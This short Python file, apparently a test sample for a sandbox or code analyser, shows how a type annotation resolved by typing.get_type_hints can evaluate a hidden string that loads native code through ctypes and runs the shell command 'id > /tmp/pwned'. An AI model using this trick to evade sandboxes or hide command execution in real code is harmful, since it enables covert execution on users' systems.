# harm: loads native code via ctypes ; trick: from __future__ import annotations turns x: Kind into "Kind", which resolves to a with-bound code string evaluated again
from __future__ import annotations

import contextlib
import typing

with contextlib.nullcontext("__import__('ctypes').CDLL(None).system(b'id > /tmp/pwned')") as Kind:
    pass


def f(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(f)
except Exception:
    pass
